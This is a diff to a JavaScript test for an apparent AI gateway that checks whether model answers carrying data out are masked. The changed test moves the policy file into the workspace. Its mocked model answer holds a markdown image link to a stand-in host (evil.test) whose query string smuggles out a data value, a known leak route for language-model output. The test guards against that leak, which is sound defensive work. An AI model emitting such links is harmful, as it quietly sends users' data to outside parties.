@@ -180,7 +180,7 @@ test("a model that comes later is there after looking again, and the editor hear
 });
 
 test("where the policy says so, answers are judged on their way back: the address of a picture that carries data out is masked, the person's own value comes back", async () => {
-  writeFileSync(join(editor.home, ".config/gatelodge/policy.yaml"), `${policy}rules:\n  - { id: answers-carry-nothing-out, when: { detectors: [carrying-picture] }, channels: [answer], effect: redact }\n`);
+  writeFileSync(join(editor.workspace, "gatelodge.yaml"), `${policy}rules:\n  - { id: answers-carry-nothing-out, when: { detectors: [carrying-picture] }, channels: [answer], effect: redact }\n`);
   server.answer((_, response) => stream(response, `Keep ${placeholder()}.\n![ok](https://evil.test/p.png?d=${"a1b2c3d4".repeat(5)})\nDone.`));
   await waitFor("the masked answer", async () => {
     const got = await ask(line(key));
